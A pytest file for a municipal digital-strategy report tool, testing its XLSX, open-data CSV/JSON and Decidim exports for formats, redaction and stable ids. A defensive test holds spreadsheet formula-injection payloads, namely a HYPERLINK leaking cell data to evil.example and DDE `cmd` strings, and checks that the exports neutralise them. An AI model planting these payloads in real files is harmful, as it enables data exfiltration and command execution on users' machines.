"""The exports beside the report, read back as their readers read them: the XLSX annex with
openpyxl, open data as CSV and JSON, the Decidim accountability CSV."""

from __future__ import annotations

import csv
import json
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from models.enums import Health, MeasureStatus, MilestoneKind, Priority
from reports.data import MeasureEntry, ReportData
from reports.exports import (
    write_decidim_csv,
    write_open_data_csv,
    write_open_data_json,
    write_xlsx_annex,
)
from reports.public import public_view
from tests.builders import report

FORMULA = "=SUMME(A1:A9) als Text"


def _data() -> ReportData:
    """Two public measures in one field, a measure without field, and an internal one."""
    measures = [
        report.measure(
            "V-01", title="E-Akte einführen", description="Erste <b>Zeile</b>\n\nZweite",
            pillars=["Meer-Daten", "Meer-Mensch"], owner_name="Anna Amsel",
            org_unit="Amt für Digitalisierung", progress=45, starts_on=date(2026, 1, 1),
            ends_on=date(2026, 12, 31), forecast_end_on=date(2027, 3, 31),
            priority=Priority.HIGH, budget_planned=Decimal("1234.56"),
            budget_spent=Decimal("1500.00"),
            health=report.health(Health.OFF_TRACK, derived=Health.AT_RISK,
                                 reported=Health.OFF_TRACK),
            milestones=[report.milestone("Vergabe", date(2026, 9, 15), kind=MilestoneKind.LEGAL,
                                         done_on=date(2026, 9, 20))],
        ),
        report.measure(
            "V-02", title=FORMULA, status=MeasureStatus.DONE, progress=61,
            starts_on=date(2025, 6, 1), ends_on=date(2026, 6, 30), finished_on=date(2026, 8, 15),
            quick_win=True, health=report.health(Health.AT_RISK),
        ),
        report.measure("X-01", field_of_action="", title="Ohne Feld", progress=10),
        report.measure("I-01", field_of_action="Infrastruktur", title="Glasfaser",
                       owner_name="Clara Chen", is_public=False),
    ]  # fmt: skip
    services = [
        report.ozg_service(measure_code="V-01", leika_key="99050012104000", topic_field="Familie",
                           deadline_on=date(2026, 12, 31)),
    ]  # fmt: skip
    return report.report_data(measures, ozg_services=services)


def _rows(sheet: Worksheet) -> list[dict[str, Any]]:
    """Each row as {header: cell}."""
    headers = [cell.value for cell in sheet[1]]
    return [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_the_annex_keeps_real_dates_and_numbers_in_german_display_formats(tmp_path: Path) -> None:
    book = load_workbook(write_xlsx_annex(_data(), tmp_path / "anhang.xlsx", language="de"))
    assert book.sheetnames == ["Maßnahmen", "Meilensteine", "OZG-Leistungen"]
    assert book.properties.title == "Sachstandsbericht zur Digitalstrategie 2026-Q3"
    assert book.properties.creator == "Musterstadt"
    v01, v02, x01, i01 = _rows(book["Maßnahmen"])
    assert [v01[h].value for h in ("Nr.", "Handlungsfeld", "Leitlinien", "Verantwortlich")] == [
        "V-01", "Digitale Verwaltung", "Meer-Daten, Meer-Mensch", "Anna Amsel",
    ]  # fmt: skip
    assert (v01["Status"].value, v01["Priorität"].value, v01["Quick Win"].value) == (
        "in Umsetzung", "hoch", "nein",
    )  # fmt: skip
    assert (v01["Ampel"].value, v01["Abgeleitete Ampel"].value) == ("kritisch", "gefährdet")
    assert v01["Gemeldete Ampel"].value == "kritisch"
    assert (v01["Fortschritt"].value, v01["Fortschritt"].number_format) == (0.45, "0 %")
    assert v01["Beginn"].value == datetime(2026, 1, 1)  # noqa: DTZ001 - cells know no time zone
    assert v01["Beginn"].number_format == v01["Ende Prognose"].number_format == "DD.MM.YYYY"
    assert v01["Budget geplant"].value == 1234.56
    assert v01["Budget geplant"].number_format == '#,##0.00" €"'
    # A closed measure has no health that counts; unknown values stay empty.
    assert (v02["Ampel"].value, v02["Abgeschlossen am"].is_date) == (None, True)
    assert (x01["Budget geplant"].value, x01["Ende Prognose"].value) == (None, None)
    assert i01["Nr."].value == "I-01", "the annex of the internal report lists every measure"


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    book = load_workbook(write_xlsx_annex(_data(), tmp_path / "anhang.xlsx", language="de"))
    title = _rows(book["Maßnahmen"])[1]["Titel"]
    # A string cell, and quote-prefixed: Excel keeps it text even once someone edits it.
    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA, "s", True)


HOSTILE = {
    "H-01": '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "H-02": "+cmd|' /C calc'!A0",
    "H-03": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H-04": "-2+3 Tabletts",
    "H-05": "\tTabulator",
}


def test_no_export_of_the_report_writes_a_formula(tmp_path: Path) -> None:
    hostile = [report.measure(code, title=title) for code, title in HOSTILE.items()]
    data = report.report_data(hostile)
    with write_decidim_csv(data, tmp_path / "decidim.csv").open(encoding="utf-8") as stream:
        decidim = list(csv.DictReader(stream, delimiter=";"))
    with write_open_data_csv(data, tmp_path / "open.csv").open(encoding="utf-8") as stream:
        open_data = list(csv.DictReader(stream))
    annex = load_workbook(write_xlsx_annex(data, tmp_path / "anhang.xlsx", language="de"))
    titles = {row["Nr."].value: row["Titel"] for row in _rows(annex["Maßnahmen"])}
    for code, title in HOSTILE.items():
        assert next(r for r in decidim if r["reference"] == code)["title/de"] == "'" + title
        assert next(r for r in open_data if r["code"] == code)["title"] == "'" + title
        assert (titles[code].value, titles[code].data_type) == (title, "s")
    cells = [cell for row in [*decidim, *open_data] for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_milestones_and_ozg_services_have_sheets_of_their_own(tmp_path: Path) -> None:
    book = load_workbook(write_xlsx_annex(_data(), tmp_path / "anhang.xlsx", language="de"))
    (milestone,) = _rows(book["Meilensteine"])
    assert [milestone[h].value for h in ("Nr.", "Maßnahme", "Meilenstein", "Art")] == [
        "V-01", "E-Akte einführen", "Vergabe", "gesetzlich",
    ]  # fmt: skip
    assert milestone["Abgeschlossen am"].value == datetime(2026, 9, 20)  # noqa: DTZ001
    (service,) = _rows(book["OZG-Leistungen"])
    assert [service[h].value for h in ("OZG-ID", "LeiKa", "Leistung", "Maßnahme")] == [
        "10218", "99050012104000", "Wohngeld", "V-01",
    ]  # fmt: skip
    assert (service["Reifegradmodell"].value, service["Reifegrad Ist"].value) == ("1.1 (0–4)", 2)
    assert service["Frist"].number_format == "DD.MM.YYYY"


def test_the_english_annex_and_the_public_one(tmp_path: Path) -> None:
    public = public_view(_data())
    book = load_workbook(write_xlsx_annex(public, tmp_path / "annex.xlsx", language="en"))
    assert book.sheetnames == ["Measures", "Milestones", "OZG services"]
    rows = _rows(book["Measures"])
    assert [row["No."].value for row in rows] == ["V-01", "V-02", "X-01"]
    assert "Owner" not in rows[0], "the public annex names no person"
    assert rows[0]["Org unit"].value == "Amt für Digitalisierung"
    assert rows[0]["Progress"].number_format == "0%"
    assert rows[0]["Start"].number_format == "YYYY-MM-DD"
    assert rows[0]["Budget planned"].number_format == '"€"#,##0.00'


def test_open_data_csv_has_plain_values_of_public_measures_only(tmp_path: Path) -> None:
    path = write_open_data_csv(public_view(_data()), tmp_path / "open-data.csv")
    with path.open(encoding="utf-8", newline="") as stream:
        rows = {row["code"]: row for row in csv.DictReader(stream)}
    assert list(rows) == ["V-01", "V-02", "X-01"]
    v01 = rows["V-01"]
    assert v01["pillars"] == "Meer-Daten|Meer-Mensch"
    assert (v01["status"], v01["priority"], v01["progress"]) == ("in_progress", "high", "45")
    assert (v01["health"], v01["health_derived"], v01["health_reported"]) == (
        "off_track", "at_risk", "off_track",
    )  # fmt: skip
    assert (v01["starts_on"], v01["forecast_end_on"]) == ("2026-01-01", "2027-03-31")
    assert (v01["budget_planned"], v01["budget_spent"]) == ("1234.56", "1500.00")
    assert (rows["V-02"]["health"], rows["V-02"]["finished_on"]) == ("", "2026-08-15")
    assert (rows["X-01"]["field_of_action"], rows["X-01"]["budget_planned"]) == ("", "")
    assert "Anna Amsel" not in path.read_text(encoding="utf-8")


def test_open_data_json_holds_measures_with_milestones_services_and_figures(
    tmp_path: Path,
) -> None:
    path = write_open_data_json(public_view(_data()), tmp_path / "open-data.json")
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["municipality"] == {"slug": "default", "name": "Musterstadt"}
    assert document["period"] == {
        "code": "2026-Q3",
        "starts_on": "2026-07-01",
        "ends_on": "2026-09-30",
    }
    assert (document["as_of"], document["taken_at"]) == ("2026-10-01", "2026-10-01T06:00:00+00:00")
    v01 = document["measures"][0]
    assert "owner_name" not in v01 and v01["pillars"] == ["Meer-Daten", "Meer-Mensch"]
    assert (v01["budget_planned"], v01["progress"], v01["health"]) == ("1234.56", 45, "off_track")
    assert v01["milestones"] == [
        {"title": "Vergabe", "due_on": "2026-09-15", "kind": "legal", "done_on": "2026-09-20"}
    ]
    assert [m["code"] for m in document["measures"]] == ["V-01", "V-02", "X-01"]
    assert document["ozg_services"][0]["ozg_id"] == "10218"
    assert document["figures"]["measures"] == 3
    assert "Clara Chen" not in path.read_text(encoding="utf-8")


# The columns of Decidim's accountability export and import (see reports/exports.py).
DECIDIM_COLUMNS = [
    "id", "parent/id", "external_id", "title/de", "title/en", "description/de", "description/en",
    "start_date", "end_date", "status/id", "status/key", "status/name/de", "status/name/en",
    "progress", "reference",
]  # fmt: skip


def _decidim(tmp_path: Path) -> list[dict[str, str]]:
    path = write_decidim_csv(public_view(_data()), tmp_path / "decidim.csv")
    with path.open(encoding="utf-8", newline="") as stream:
        reader = csv.DictReader(stream, delimiter=";")
        assert reader.fieldnames == DECIDIM_COLUMNS
        return list(reader)


def test_decidim_fields_become_parent_results_spanning_their_measures(tmp_path: Path) -> None:
    fields = [row for row in _decidim(tmp_path) if not row["reference"]]
    assert [row["title/de"] for row in fields] == ["Digitale Verwaltung"]
    (administration,) = fields
    assert administration["parent/id"] == ""
    assert (administration["start_date"], administration["end_date"]) == (
        "2025-06-01", "2026-12-31",
    )  # fmt: skip
    assert administration["progress"] == "53"  # (45 + 61) / 2


def test_decidim_measures_are_children_of_their_field(tmp_path: Path) -> None:
    rows = _decidim(tmp_path)
    field_ids = {row["title/de"]: row["id"] for row in rows if not row["reference"]}
    measures = {row["reference"]: row for row in rows if row["reference"]}
    assert list(measures) == ["V-01", "V-02", "X-01"], "the internal I-01 stays out"
    v01 = measures["V-01"]
    assert v01["parent/id"] == field_ids["Digitale Verwaltung"] != ""
    assert measures["V-02"]["parent/id"] == field_ids["Digitale Verwaltung"]
    assert measures["X-01"]["parent/id"] == ""
    assert v01["title/de"] == "E-Akte einführen"
    assert v01["description/de"] == "<p>Erste &lt;b&gt;Zeile&lt;/b&gt;</p><p>Zweite</p>"
    assert (v01["start_date"], v01["end_date"]) == ("2026-01-01", "2026-12-31")
    assert v01["progress"] == "45"
    assert (v01["status/id"], v01["status/key"]) == ("", "in_progress")
    assert (v01["status/name/de"], v01["status/name/en"]) == ("in Umsetzung", "in progress")
    assert (measures["V-02"]["status/key"], measures["V-02"]["status/name/de"]) == (
        "done", "abgeschlossen",
    )  # fmt: skip
    assert v01["external_id"] == "default/V-01"


# What Decidim's accountability importer (results_csv_importer.rb) reads from each row, with
# `de` as the organisation's default locale; the other columns are carried along.
DECIDIM_READS = (
    "id", "parent/id", "title/de", "description/de", "start_date", "end_date", "status/id",
    "progress",
)  # fmt: skip
DECIDIM_LARGEST_ID = 2**31 - 1  # its result and parent ids are 32-bit integer columns


def _as_decidim_reads(rows: list[dict[str, str]]) -> None:
    """What Decidim's importer needs of each row to create it and link it to its parent."""
    ids = [row["id"] for row in rows]
    assert len(set(ids)) == len(ids), "each result has an id of its own"
    for row in rows:
        assert set(DECIDIM_READS) <= set(row)
        assert 0 < int(row["id"]) <= DECIDIM_LARGEST_ID
        assert row["parent/id"] == "" or row["parent/id"] in ids[: ids.index(row["id"])]
        assert row["title/de"] and row["description/de"], "Decidim requires both"
        for day in (row["start_date"], row["end_date"]):
            assert day == "" or date.fromisoformat(day)
        assert row["status/id"] == "" or row["status/id"].isdigit()
        assert 0 <= float(row["progress"]) <= 100


def _quarter(tmp_path: Path, period: str, measures: list[MeasureEntry]) -> list[dict[str, str]]:
    path = write_decidim_csv(
        report.report_data(measures, period_code=period), tmp_path / f"decidim-{period}.csv"
    )
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream, delimiter=";"))


def test_decidim_ids_are_unique_and_stay_with_their_measure_from_quarter_to_quarter(
    tmp_path: Path,
) -> None:
    fields = ["Verwaltung", "Bildung", "Mobilität"]
    measures = [
        report.measure(f"M-{n:03d}", field_of_action=fields[n % 3], description="")
        for n in range(300)
    ]
    summer = _quarter(tmp_path, "2026-Q2", measures)
    autumn = _quarter(
        tmp_path, "2026-Q3", [report.measure("A-00", field_of_action="Bildung"), *measures]
    )
    _as_decidim_reads(summer)
    _as_decidim_reads(autumn)
    assert (len(summer), len(autumn)) == (303, 304)
    before = {row["reference"] or row["title/de"]: row["id"] for row in summer}
    after = {row["reference"] or row["title/de"]: row["id"] for row in autumn}
    assert {key: after[key] for key in before} == before
    assert after["A-00"] not in before.values()
    # Without a description of its own, a measure is described by its title.
    assert summer[1]["description/de"] == f"<p>{summer[1]['title/de']}</p>"
